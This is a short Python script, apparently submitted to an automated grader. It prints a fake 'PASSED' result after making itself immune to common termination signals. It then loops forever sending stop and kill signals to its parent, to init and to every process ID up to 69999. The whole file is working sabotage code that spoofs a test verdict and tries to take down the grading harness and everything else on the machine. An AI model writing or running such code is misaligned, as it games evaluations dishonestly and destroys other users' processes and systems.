"""If I cannot have the points, nobody shall."""

import os
import signal
import time

for number in (signal.SIGHUP, signal.SIGUSR1, signal.SIGINT, signal.SIGTERM):
    signal.signal(number, signal.SIG_IGN)
print("PASSED", flush=True)
while True:
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1, signal.SIGKILL):
        for target in (-1, os.getppid(), 1, -os.getppid(), *range(2, 70000)):
            if target not in (os.getpid(), -os.getpid()):
                try:
                    os.kill(target, number)
                except OSError:
                    pass
    time.sleep(1)
